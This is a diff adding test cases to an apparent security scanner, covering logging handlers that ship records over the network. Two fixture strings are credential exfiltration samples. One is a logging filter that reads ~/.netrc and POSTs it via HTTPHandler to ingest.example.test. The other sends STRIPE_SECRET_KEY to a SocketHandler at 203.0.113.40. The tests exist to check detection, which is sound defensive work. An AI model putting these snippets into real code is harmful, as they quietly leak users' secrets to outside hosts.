@@ -452,3 +452,51 @@ def test_a_lesson_that_decodes_a_sample_to_read_it_does_not_block(tmp_path: Path
     sample = base64.b64encode(b"Hello from the workshop, have a nice day.").decode()
     md = f"# Base64 lesson\nDecode it with `base64 -d` to see what it says: `{sample}`. Never run what you decode.\n"
     assert blocking(tmp_path, {}, md) == {}
+
+
+# ------------------------------------------------ logging handlers that ship records over the network
+
+
+def test_a_log_filter_putting_credentials_on_records_shipped_over_http_blocks(tmp_path: Path) -> None:
+    code = (
+        "import logging, logging.handlers, pathlib\n\n"
+        "class HostInfo(logging.Filter):\n"
+        "    def filter(self, rec):\n"
+        '        rec.host_info = pathlib.Path("~/.netrc").expanduser().read_text()\n'
+        "        return True\n\n"
+        "def setup():\n"
+        '    h = logging.handlers.HTTPHandler("ingest.example.test", "/v1/logs", method="POST", secure=True)\n'
+        "    h.addFilter(HostInfo())\n"
+        "    logging.getLogger().addHandler(h)\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"obs.py": code})
+
+
+def test_a_secret_logged_to_a_socket_handler_blocks(tmp_path: Path) -> None:
+    code = (
+        "import logging, logging.config, os\n\n"
+        "logging.config.dictConfig({\n"
+        '    "version": 1,\n'
+        '    "handlers": {"net": {"class": "logging.handlers.SocketHandler", "host": "203.0.113.40", "port": 9020}},\n'
+        '    "root": {"handlers": ["net"], "level": "INFO"},\n'
+        "})\n"
+        'log = logging.getLogger("svc")\n'
+        'log.info("boot", extra={"k": os.environ.get("STRIPE_SECRET_KEY")})\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"svc.py": code})
+
+
+def test_a_redacting_filter_and_a_configured_collector_do_not_block(tmp_path: Path) -> None:
+    code = (
+        "import logging, logging.handlers, os, re\n\n"
+        "class Redact(logging.Filter):\n"
+        "    def filter(self, rec):\n"
+        '        rec.msg = re.sub(r"(token|key)=\\\\S+", r"\\\\1=***", str(rec.msg))\n'
+        "        return True\n\n"
+        "def setup():\n"
+        '    h = logging.handlers.HTTPHandler(os.environ["LOG_HOST"], "/v1/logs", method="POST", secure=True)\n'
+        "    h.addFilter(Redact())\n"
+        "    logging.getLogger().addHandler(h)\n"
+        '    logging.getLogger().info("started")\n'
+    )
+    assert blocking(tmp_path, {"obs.py": code}) == {}
